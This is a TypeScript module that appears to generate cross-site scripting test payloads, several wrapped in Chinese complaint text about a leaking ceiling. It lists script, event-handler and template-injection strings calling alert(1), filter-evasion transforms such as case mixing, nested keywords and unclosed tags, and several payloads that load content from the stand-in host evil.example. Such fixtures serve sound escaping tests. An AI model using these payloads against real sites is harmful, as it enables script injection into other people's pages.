/** Texts that a page which does not take them as text would run; each calls `alert`. In Latin, in Chinese, in both. */
const plain: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<a href="javascript:alert(1)">请点击查看</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>材料',
  '<input autofocus onfocus=alert(1)>',
  '<math><mtext><script>alert(1)</script>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<body onload=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/"><script src=a.js></script>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import"https://evil.example/x.css"</style>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button autofocus>提交',
  '<style>*{background:url(//evil.example/x)}</style>漏水',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  "' onfocus='alert(1)' autofocus tabindex='1",
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}{alert(1)}',
  '调解员您好<script>alert(1)</script>请尽快处理',
  '楼上漏水"><img src=x onerror=alert(1)>赔偿三千元',
  '＜script＞alert(1)＜/script＞',
  '李䶮\u3000<svg/onload=alert(1)>𠮷',
  '<ſcript>alert(1)</ſcript><img/src=x/onerror=alert(1)>',
];

/** Ways to say the same that some filter once let through. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('script', 'ScRiPt').replaceAll('onerror', 'OnErRoR'),
  (text) => `楼上漏水。${text}。请尽快修好`,
  (text) => `<!--${text}--><${text.slice(1)}`,
  (text) => text.replaceAll('alert(1)', 'alert`1`'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('alert', 'al\\u0065rt'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;') + text,
  (text) => `]]>${text}<![CDATA[`,
  (text) => encodeURIComponent(text).slice(0, 90) + text,
  // What a filter that takes words out leaves behind.
  (text) => text.replaceAll('script', 'scrscriptipt').replaceAll('onerror', 'ononerrorerror'),
  (text) => text.replaceAll('=', ' = '),
  (text) => text.replaceAll('alert(1)', 'top[&quot;al&quot;+&quot;ert&quot;](1)'),
  // A tag that is never ended: the page's own next one would end it.
  (text) => (text.endsWith('>') ? text.slice(0, -1) : `${text}<img src=x onerror=alert(1) x="`),
];

/** So many different texts; the plain ones first. */
export function scriptPayloads(count: number): readonly string[] {
  const all = [...plain, ...disguises.flatMap((disguise) => plain.map(disguise))];
  const different = [...new Set(all)];
  if (different.length < count) throw new Error(`there are ${different.length} texts, not ${count}`);
  return different.slice(0, count);
}
